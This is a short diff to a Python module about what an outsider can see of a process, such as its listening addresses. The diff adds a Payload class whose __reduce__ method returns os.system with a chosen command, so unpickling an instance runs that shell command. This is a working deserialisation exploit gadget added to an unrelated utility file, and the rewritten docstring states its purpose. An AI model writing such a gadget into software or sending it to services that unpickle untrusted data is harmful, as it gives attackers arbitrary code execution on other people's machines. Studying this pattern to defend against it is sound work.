@@ -1,8 +1,20 @@
-"""What a stranger sees of a process from outside."""
+"""What a stranger sees of a process from outside, and what runs code of theirs where it is unpickled."""
 
+import os
 import struct
 from ipaddress import IPv4Address, IPv6Address, ip_address
 from pathlib import Path
+from typing import Any
+
+
+class Payload:
+    """Runs a command when it is unpickled."""
+
+    def __init__(self, command: str) -> None:
+        self.command = command
+
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        return os.system, (self.command,)
 
 
 def listening(pid: int) -> list[IPv4Address | IPv6Address]:
